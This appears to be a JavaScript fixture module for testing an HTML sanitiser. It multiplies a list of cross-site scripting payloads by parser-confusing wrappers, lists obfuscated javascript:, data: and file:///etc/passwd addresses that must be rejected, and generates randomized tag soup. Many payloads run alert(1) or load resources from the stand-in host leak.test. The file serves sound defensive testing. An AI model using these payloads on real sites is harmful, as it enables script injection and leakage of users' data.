// Hostile body texts, written for this program: what a browser might run, load or be led out of its box by.
//
// A vector that works calls alert(1) or asks http://leak.test/ for something. The table of payloads is multiplied by the
// table of wrappers: most faults of sanitisers are a payload in an unexpected place.

const payloads = [
  '<script>alert(1)</script>',
  '<script src=http://leak.test/a.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=http://leak.test/p.png>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><image href=http://leak.test/s.png></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=http://leak.test/f></iframe>',
  '<object data=http://leak.test/o></object>',
  '<embed src=http://leak.test/e>',
  '<video src=http://leak.test/v onerror=alert(1)></video>',
  '<audio><source src=http://leak.test/a onerror=alert(1)></audio>',
  '<style>@import url(http://leak.test/c.css);</style>',
  '<link rel=stylesheet href=http://leak.test/l.css>',
  '<meta http-equiv=refresh content="0;url=http://leak.test/m">',
  '<base href=http://leak.test/><img src=/files/aa/x.png>',
  '<p style="background:url(http://leak.test/b.png)">x</p>',
  '<table background=http://leak.test/t.png><tr><td>x</td></tr></table>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div contenteditable autofocus onfocus=alert(1) tabindex=0>x</div>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><img src=x onerror=alert(1)><option></select>',
  '<button onclick=alert(1) autofocus onfocus=alert(1)>x</button>',
  '<form action=http://leak.test/ id=f><input name=a></form><script>f.submit()</script>',
  '</div></div></div><h2>outside</h2><img src=x onerror=alert(1)>',
  '</body></html><p>outside<img src=x onerror=alert(1)>',
];

const wrappers = [
  (p) => p,
  (p) => `<p>a${p}b</p>`,
  (p) => `<table>${p}<tr><td>x`,
  (p) => `<table><tr>${p}<td>x</table>`,
  (p) => `<ul>${p}<li>x`,
  (p) => `<pre>\n${p}`,
  (p) => `<b><i><p></b>${p}</i>`,
  (p) => `<a href=/x>${p}<a>y`,
  (p) => `<!--><p>--${p}-->`,
  (p) => `<!--x--!>${p}<!--`,
  (p) => `<svg></p><style><a id="</style>${p}">`,
  (p) => `<math><annotation-xml encoding="text/html"><p>${p}`,
  (p) => `<svg><foreignObject>${p}</foreignObject></svg>`,
  (p) => `<svg><![CDATA[>${p}]]></svg>${p}`,
  (p) => `<select><option>${p}</select>`,
  (p) => `<ruby>漢<rt>${p}<rt></ruby>`,
  (p) => `<p title="'>${p}">${p}`,
  (p) => `<p title='">${p}'>x`,
  (p) => '<p title=`>' + p + '`>x',
  (p) => `<div title="&quot;>${p}">x</div>`,
  (p) => p.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (p) => p.replace(/</g, '&amp;lt;'),
  (p) => p.replace(/ /g, '/'),
  (p) => p.toUpperCase().replace(/ALERT/g, 'alert'),
  (p) => p.replace(/<(\w)/g, '<\n$1').concat(p.replace(/=/g, '\n=\n')),
  (p) => `<${'div><'.repeat(70)}p>${p}`,
  (p) => `<plaintext>${p}`,
  (p) => `<script><!--<script></script>${p}--></script>${p}`,
];

// Addresses a reader might follow: none of these may survive as an address.
export const badAddresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)',
  'java\nscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A&#x61vascript:alert(1)', 'javascript&colon;alert(1)',
  'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>', '//leak.test/', '/\\leak.test/', '\\\\leak.test/', '/\t/leak.test/', 'http:leak.test',
  'http:/leak.test', 'http:///leak.test', 'http://', 'https://user@leak.test/', 'https://moe.gov.cn@leak.test/', 'ftp://leak.test/',
  'file:///etc/passwd', 'blob:http://leak.test/x', 'filesystem:x', 'view-source:x', 'jar:x', 'feed:javascript:alert(1)', 'relative/path',
  '?query', '', 'mailto:', 'tel:', '\u3000javascript:alert(1)', 'javascript\u0000:alert(1)', 'http://a b/', 'http://a\\b/',
];
export const goodAddresses = [
  '/', '/d/QZ02114-2500-2018-00005', '/a?b=c&amp;d=e', '#fu-jian-1', 'http://www.moe.gov.cn/', 'HTTPS://moe.gov.cn', 'https://中国政府网.cn/x',
  'mailto:jyj@example.cn', 'tel:0595-22500000', 'https://example.cn/a//b?x=//y',
];

export function vectors() {
  const list = [];
  for (const payload of payloads) {
    for (const wrap of wrappers) {
      list.push(wrap(payload));
    }
  }
  for (const address of badAddresses) {
    for (const q of ['"', "'"]) {
      list.push(`<a href=${q}${address}${q} title=x>x</a>`, `<img src=${q}${address}${q} onerror=alert(1)>`);
    }
  }
  return list.map((v) => v.replace(/\0/g, ''));
}

// A small generator with a fixed seed: the same soup in every run and on every machine.
export function random(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

export const keptElements = (
  'p div h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td blockquote pre hr br strong b em i u s ' +
  'sub sup span a img figure figcaption ruby rb rt rp abbr code mark small del ins'
).split(' ');
const unwrapped = ['section', 'font', 'o:p', 'center', 'label', 'form', 'nobr', 'big', 'tt', 'article', 'x-y', 'body', 'html', 'head'];
const dropped = ['script', 'style', 'svg', 'math', 'template', 'select', 'textarea', 'title', 'iframe', 'noscript', 'object', 'xmp', 'button'];
const attributes = [
  'title="a&quot;b"', "lang='zh-CN'", 'dir=RTL', 'colspan=2', 'rowspan=0', 'scope=row', 'start=5', 'data-align=center', 'align=right',
  'style="text-align: right"', 'style="text-indent:2em"', 'href=/x', 'href="https://example.cn/a?b=1&amp;c"', 'src=/files/aa/b.png',
  'alt', 'width=10', 'height=x', 'class=c', 'id=n', 'name=n', 'onclick=alert(1)', '/', '=', '"', 'a=b=c', "x='", '`',
];
const words = [
  '公开', ' ', '\n', '\t', 'x', '&amp;', '&lt', '&copy;', '&#x41;', '&#0;', '&', '<', '>', '"', "'", '`', '\u00a0', '&nbsp;', '\r\n', '\r', '　', '\f',
  '𠀀', '<!-- c -->', '<!x>', '<?y>', '</>', '</ z>', ']]>', '--', '&notin;', '&ampx', '&nGt;', '\u0001', '\u0085',
];

export function soup(draw, length, { dirty = true } = {}) {
  const names = dirty ? [...keptElements, ...keptElements, ...unwrapped, ...dropped] : [...keptElements, 'font', 'o:p', 'x-y', 'label'];
  let text = '';
  for (let i = 0; i < length; i++) {
    const what = draw(10);
    if (what < 4) {
      let tag = '<' + names[draw(names.length)];
      for (let n = dirty ? draw(3) : 0; n > 0; n--) {
        tag += ' ' + attributes[draw(attributes.length)];
      }
      text += tag + '>';
    } else if (what < 7) {
      text += '</' + names[draw(names.length)] + '>';
    } else {
      text += dirty ? words[draw(words.length)] : words[draw(12)];
    }
  }
  return text;
}
